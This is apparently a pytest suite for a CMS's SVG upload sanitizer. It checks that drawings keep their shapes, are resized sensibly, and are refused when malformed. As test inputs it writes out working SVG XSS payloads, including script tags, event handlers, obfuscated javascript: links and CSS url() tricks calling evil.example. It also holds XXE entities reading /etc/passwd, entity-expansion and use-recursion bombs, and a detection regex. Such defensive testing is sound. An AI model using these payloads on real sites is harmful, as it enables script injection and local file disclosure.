"""Drawings as they come in: they can draw, and nothing else."""

from __future__ import annotations

import re
from io import BytesIO
from xml.etree import ElementTree

import pytest
import willow
from django.core.files.base import ContentFile

from cms_blocks.media.svg import looks_like_svg
from cms_blocks.media.uploads import UploadRefused, clean_image
from tests.cms_blocks.media.samples import svg

SHAPE = '<rect id="keep" width="10" height="10" fill="red"/>'
XLINK = 'viewBox="0 0 40 20" xmlns:xlink="http://www.w3.org/1999/xlink"'


def cleaned(data: bytes, name: str = "zeichnung.svg") -> str:
    return clean_image(name, ContentFile(data)).content.read().decode()


def refusal(data: bytes) -> UploadRefused:
    with pytest.raises(UploadRefused) as caught:
        cleaned(data)
    assert "zeichnung.svg" in caught.value.messages[0]
    return caught.value


ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script of another namespace": '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    "script by address": '<script href="https://evil.example/x.js"/>',
    "event handler": '<g onload="alert(1)" onclick="alert(1)"><rect width="1" height="1"/></g>',
    "handler in capitals": '<g ONLOAD="alert(1)"><rect width="1" height="1"/></g>',
    "foreign content": '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></body></foreignObject>',
    "web page": '<html:iframe xmlns:html="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>',
    "link": '<a xlink:href="javascript:alert(1)"><rect width="1" height="1"/></a>',
    "link with blanks": '<a href=" jav&#x09;ascript:alert(1)"><rect width="1" height="1"/></a>',
    "link by animation": '<a><animate attributeName="href" values="javascript:alert(1)"/><rect width="1" height="1"/></a>',
    "set": '<set attributeName="onmouseover" to="alert(1)"/>',
    "external picture": '<image href="https://evil.example/pixel.png" width="1" height="1"/>',
    "embedded drawing": '<image xlink:href="data:image/svg+xml;base64,PHN2Zy8+" width="1" height="1"/>',
    "filter picture": '<filter id="f"><feImage href="https://evil.example/x.svg"/></filter>',
    "external use": '<use xlink:href="https://evil.example/x.svg#a"/>',
    "data use": "<use href=\"data:image/svg+xml,&lt;svg id='x' onload='alert(1)'/&gt;#x\"/>",
    "imported style": "<style>@import url(https://evil.example/x.css); rect{fill:blue}</style>",
    "style with address": "<style>rect{fill:blue;background:url(https://evil.example/x.png)}</style>",
    "style with escaped address": r"<style>rect{fill:\75\72\6c(https://evil.example/x.png)}</style>",
    "font by address": "<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)} text{font-family:x}</style>",
    "style attribute": '<rect width="1" height="1" style="fill:url(https://evil.example/#a);background-image:url(//evil.example)"/>',
    "presentation attribute": '<rect width="1" height="1" fill="url(https://evil.example/#a)" mask="url(//evil.example/#m)"/>',
    "comment in address": '<rect width="1" height="1" fill="u/**/rl(https://evil.example/#a)"/>',
    "image-set": '<rect width="1" height="1" style="fill:image-set(&quot;https://evil.example/x.png&quot; 1x)"/>',
    "style ends early": "<style>rect{fill:blue}&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>",
    "processing instruction": '<?xml-stylesheet href="https://evil.example/x.css"?>',
    "handler of an earlier standard": '<handler type="application/ecmascript">alert(1)</handler>',
    "discarded": '<discard begin="0s"/><iframe src="javascript:alert(1)"/><embed src="https://evil.example"/><object data="https://evil.example"/>',
    "cdata": "<style><![CDATA[</style><script>alert(1)</script>]]></style>",
    "editor data": '<metadata><rdf xmlns="urn:x">evil.example alert(1)</rdf></metadata>',
    "base": '<g xml:base="https://evil.example/"><use href="#keep"/></g>',
}  # fmt: skip
FORBIDDEN = re.compile(
    r"script|alert|evil|javascript|\bon\w+\s*=|foreignObject|iframe|<image|feImage|animate|<set|@import|@font|data:|https?:(?!//www\.w3\.org/2000/svg)|\?xml-|<!|metadata|xml:base|&lt;|\\",
    re.I,
)


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
@pytest.mark.parametrize("prefix", ["", '<?xml version="1.0" encoding="UTF-8"?>\n<!-- made by hand -->\n'])
def test_an_attack_is_taken_out_and_the_drawing_stays(attack, prefix):
    result = cleaned(prefix.encode() + svg(SHAPE + attack, XLINK))
    assert not FORBIDDEN.search(result), result
    assert '<rect id="keep"' in result
    ElementTree.fromstring(result)


def test_an_attack_on_the_root_element_is_taken_out():
    result = cleaned(svg(SHAPE, 'viewBox="0 0 40 20" onload="alert(1)" style="background:url(//evil.example)"'))
    assert not FORBIDDEN.search(result)


ENTITIES = """<?xml version="1.0"?><!DOCTYPE svg [{}]><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1">
<rect width="1" height="1"/><text>&x;</text></svg>"""


@pytest.mark.parametrize(
    "definition",
    [
        '<!ENTITY x SYSTEM "file:///etc/passwd">',
        '<!ENTITY x SYSTEM "https://evil.example/">',
        '<!ENTITY % p SYSTEM "https://evil.example/"> %p;',
        '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY x "&b;&b;&b;&b;&b;">',
    ],
)
def test_a_drawing_with_entities_of_its_own_is_refused(definition):
    assert refusal(ENTITIES.format(definition).encode()).code in ("svg_entities", "svg_damaged")


def test_the_usual_document_type_is_no_obstacle():
    doctype = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    assert "<rect" in cleaned(b'<?xml version="1.0"?>' + doctype.encode() + svg(SHAPE))


def test_repetitions_that_would_overload_a_browser_are_refused():
    levels = "".join(
        f'<g id="l{n}">' + f'<use href="#l{n - 1}"/>' * 10 + "</g>" for n in range(1, 9)
    )  # fmt: skip
    assert refusal(svg(f'<defs><g id="l0">{SHAPE}</g>{levels}</defs><use href="#l8"/>')).code == "svg_complex"


@pytest.mark.parametrize(
    "body",
    [
        '<g id="a"><use href="#a"/><rect width="1" height="1"/></g>',
        '<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>',
        "".join(f'<g id="c{n}"><use href="#c{n + 1}"/></g>' for n in range(2_000)),
        "<g>" * 5_000 + SHAPE + "</g>" * 5_000,
        SHAPE * 60_000,
    ],
    ids=["itself", "each other", "a long chain", "deep", "many"],
)
def test_a_drawing_that_is_endless_or_too_deep_is_refused(body):
    assert refusal(svg(body)).code == "svg_complex"


def test_a_drawing_without_shapes_or_with_a_photo_only_is_refused():
    assert refusal(svg("<g/>")).code == "svg_empty"
    assert refusal(svg('<image href="data:image/png;base64,iVBORw0KGgo="/>')).code == "svg_empty"


@pytest.mark.parametrize(
    "data",
    [b"<svg", b"<svg></g>", b"<html><svg xmlns='http://www.w3.org/2000/svg'/></html>", svg()[:-5], b"<svg>\0</svg>"],
)
def test_what_is_no_drawing_is_refused(data):
    assert refusal(data).code in ("svg_damaged", "invalid_image")


def test_a_drawing_may_use_gradients_filters_styles_and_text():
    body = """<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/><stop offset="1" style="stop-color:#00f"/></linearGradient>
    <filter id="f"><feGaussianBlur stdDeviation="2"/></filter><symbol id="s" viewBox="0 0 1 1"><circle r="1"/></symbol>
    <clipPath id="c"><path d="M0 0h9v9z"/></clipPath></defs><title>Ein Haus</title><desc>Mit Garten</desc>
    <style>/* farben */ .st0, #x > path { fill : url(#g) ; stroke:#000 } .st1{font:700 12px "Noto Sans"}</style>
    <g transform="translate(1 2) rotate(45)" clip-path="url('#c')"><path class="st0" d="M0 0C1 1 2 2 3 3z" filter="url(#f)"/></g>
    <use xlink:href="#s" x="1" width="2" height="2"/><text class="st1" x="1" y="2">Zu<tspan dx="1" font-weight="bold">hause</tspan> hier</text>"""
    result = cleaned(svg(body, XLINK))
    for kept in (
        '<linearGradient id="g">', 'style="stop-color:#00f"', "<feGaussianBlur", '<use href="#s"', "<title>Ein Haus</title>",
        ".st0, #x > path{fill:url(#g);stroke:#000}".replace(">", "&gt;"), "clip-path=\"url('#c')\"", 'filter="url(#f)"',
        "Zu<tspan", "hause</tspan> hier</text>", 'transform="translate(1 2) rotate(45)"', 'font:700 12px "Noto Sans"',
    ):  # fmt: skip
        assert kept in result, (kept, result)


def test_links_and_alternatives_leave_their_content():
    result = cleaned(svg("<a href='https://evil.example'><circle r='1'/></a><switch><path d='M0 0h1'/></switch>"))
    assert "<g><circle" in result
    assert "<g><path" in result


def test_editors_own_data_does_not_remain():
    data = svg(
        SHAPE + '<sodipodi:namedview inkscape:document-name="C:/Users/muster/geheim.svg"/>',
        'viewBox="0 0 1 1" xmlns:sodipodi="urn:s" xmlns:inkscape="urn:i" inkscape:export-filename="geheim"',
    )
    assert "geheim" not in cleaned(data)


@pytest.mark.parametrize(
    ("attributes", "size"),
    [
        ('viewBox="0 0 40 20"', (40, 20)),
        ('viewBox="0,0,40,20" width="80" height="40"', (80, 40)),
        ('width="80" height="40"', (80, 40)),
        ('width="1in" height="2.54cm"', (96, 96)),
        ('viewBox="0 0 40 20" width="100%" height="100%"', (40, 20)),
        ('viewBox="0 0 40 20" width="auto" height="none"', (40, 20)),
        ('viewBox="0 0 40 20" width="1e9" height="1e9"', (40, 20)),
        ('viewBox="0 0 40 20" preserveAspectRatio="nonsense"', (40, 20)),
        ('viewBox="0 0 .4 .2"', (1, 1)),
        ("", (300, 150)),
    ],
)
def test_the_size_is_known_and_wagtail_agrees(attributes, size):
    result = clean_image("a.svg", ContentFile(svg(SHAPE, attributes)))
    assert result.size == size
    assert tuple(map(round, willow.Image.open(result.content).get_size())) == size
    assert "viewBox=" in result.content.open().read().decode()


@pytest.mark.parametrize(
    "attributes", ['viewBox="0 0 0 0"', 'viewBox="nonsense"', 'viewBox="0 0 1e9 1"', 'width="1e9" height="1"']
)
def test_a_drawing_without_a_sensible_size_is_refused_or_given_one(attributes):
    try:
        size = clean_image("a.svg", ContentFile(svg(SHAPE, attributes))).size
    except UploadRefused as error:
        assert error.code == "svg_size"
    else:
        assert 0 < max(size) <= 16_000


@pytest.mark.parametrize("attack", [*ATTACKS.values(), SHAPE])
def test_cleaning_twice_changes_nothing(attack):
    once = clean_image("a.svg", ContentFile(svg(SHAPE + attack, XLINK)))
    twice = clean_image(once.name, ContentFile(once.content.read()))
    assert (twice.name, twice.size, twice.sha1) == (once.name, once.size, once.sha1)


def test_other_encodings_are_understood():
    text = '<?xml version="1.0" encoding="UTF-16"?>' + svg("<text>Grün</text>").decode()
    assert "Grün" in cleaned(text.encode("utf-16"))
    latin = '<?xml version="1.0" encoding="ISO-8859-1"?>' + svg("<text>Grün</text>").decode()
    assert "Grün" in cleaned(latin.encode("latin-1"))


def test_a_drawing_is_known_by_its_content():
    assert clean_image("bild.png", ContentFile(svg())).name == "bild.svg"
    assert not looks_like_svg(b"\x89PNG\r\n\x1a\n<svg ")
    assert not looks_like_svg(b"svg")


def test_a_very_large_drawing_is_refused():
    assert refusal(svg(SHAPE + "<!--" + "x" * 4_000_000 + "-->")).code == "svg_complex"


def test_mutated_drawings_never_raise_anything_but_a_refusal():
    import random

    dice = random.Random(11)
    seeds = [svg(SHAPE + attack, XLINK) for attack in ATTACKS.values()]
    for _round in range(500):
        data = bytearray(dice.choice(seeds))
        for _change in range(dice.randint(1, 10)):
            data[dice.randrange(len(data))] = dice.choice(b"<>\"'/=&;:#() x1svgu\0\xff")
        try:
            result = clean_image("a.svg", ContentFile(bytes(data))).content.read().decode()
        except UploadRefused:
            continue
        ElementTree.parse(BytesIO(result.encode()))
        assert "<script" not in result
        assert 'href="http' not in result


def test_words_stay_in_their_order_when_something_between_them_is_left_out():
    words = '<text xml:lang="de">a<foo/>b<tspan>c</tspan><!-- x -->d<script>1</script>e</text>'
    assert '<text lang="de">ab<tspan>c</tspan>de</text>' in cleaned(svg(words))
